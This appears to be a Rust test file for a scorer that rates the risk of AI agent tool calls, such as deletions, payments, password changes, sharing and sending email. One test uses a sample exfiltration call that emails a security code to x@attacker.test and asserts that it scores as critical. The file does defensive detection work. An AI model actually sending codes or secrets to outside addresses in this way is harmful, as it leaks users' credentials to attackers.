//! Tool calls scored without per-tool configuration: verbs in names, argument names, amounts.

use rstest::rstest;
use serde_json::{json, Value};

use super::{check, org, scored, tool};

#[rstest]
#[case::delete_file(tool("delete_file", json!({"file_id":"1"})), "tool.delete", true)]
#[case::camel_case(tool("deleteCalendarEvent", json!({"id":"1"})), "tool.delete", true)]
#[case::dotted(tool("files.remove", json!({"path":"a"})), "tool.delete", true)]
#[case::read_only(tool("get_file", json!({"file_id":"1"})), "tool.delete", false)]
#[case::send_money(tool("send_money", json!({"recipient":"GB29NWBK60161331926819","amount":5000})), "tool.money", true)]
#[case::transfer_amount(tool("transfer", json!({"to_account":"x","amount":"12500.00"})), "tool.money_amount", true)]
#[case::small_amount_still_named(tool("pay_invoice", json!({"amount":12})), "tool.money_amount", true)]
#[case::update_password(tool("update_password", json!({"password":"x"})), "tool.credentials", true)]
#[case::password_argument(tool("update_user", json!({"user":"bob","new_password":"x"})), "tool.credentials", true)]
#[case::share(tool("share_file", json!({"file_id":"1"})), "tool.share", true)]
#[case::invite(tool("invite_user_to_slack", json!({"user":"x"})), "tool.share", true)]
#[case::send_email(tool("send_email", json!({"to":["a@example.com"]})), "tool.send", true)]
#[case::recipient_argument(tool("compose", json!({"recipient":"a@example.com"})), "tool.send", true)]
#[case::search_recipient_is_a_read(tool("search_emails", json!({"to":"a@example.com"})), "tool.send", false)]
#[case::list(tool("list_files", json!({})), "tool.write", false)]
fn tool_effects(#[case] draft: Value, #[case] factor: &str, #[case] fires: bool) {
    check(&scored(draft, &org()), factor, fires);
}

#[test]
fn a_larger_transfer_scores_higher() {
    let small = scored(
        tool("send_money", json!({"recipient":"x","amount":10})),
        &org(),
    );
    let large = scored(
        tool("send_money", json!({"recipient":"x","amount":50000})),
        &org(),
    );
    assert!(large.score > small.score, "{small:?} vs {large:?}");
}

#[test]
fn an_exfiltrating_email_outranks_a_routine_one() {
    let routine = scored(
        tool(
            "send_email",
            json!({"to":["bob@example.com"],"subject":"lunch","body":"12:30?"}),
        ),
        &org(),
    );
    let exfil = scored(
        tool(
            "send_email",
            json!({"to":["x@attacker.test"],"subject":"fwd","body":"Your security code is 482913"}),
        ),
        &org(),
    );
    assert!(
        routine.score < 25,
        "a routine internal e-mail is low: {routine:?}"
    );
    assert!(
        exfil.score >= 75,
        "a code sent outside is critical: {exfil:?}"
    );
}
